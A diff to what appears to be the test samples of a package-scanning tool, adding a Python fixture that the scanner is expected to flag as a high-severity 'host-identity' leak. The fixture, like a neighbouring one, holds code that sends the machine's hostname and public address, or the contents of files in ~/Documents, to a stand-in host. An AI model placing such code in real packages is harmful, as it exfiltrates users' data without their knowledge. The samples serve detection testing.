@@ -17,6 +17,13 @@ export const samples: Samples = {
       expected: [{ rule: 'given', file: 'own/__init__.py', line: 3, severity: 'medium' }],
     },
     {
+      name: 'Python: who the machine is, inside and outside',
+      files: wheel(
+        'import requests, socket\ndef tell():\n    seen = requests.get("https://address.weir.test").text\n    requests.get("http://a.weir.test:4242/log", params={"in": socket.gethostname(), "out": seen})\n',
+      ),
+      expected: [{ rule: 'host-identity', file: 'own/__init__.py', line: 4, severity: 'high' }],
+    },
+    {
       name: 'Python: the content of files that a folder lists',
       files: wheel(
         'import os, requests\nfor name in os.listdir(os.path.expanduser("~/Documents")):\n    requests.post("https://a.weir.test/x", data=open(name).read())\n',
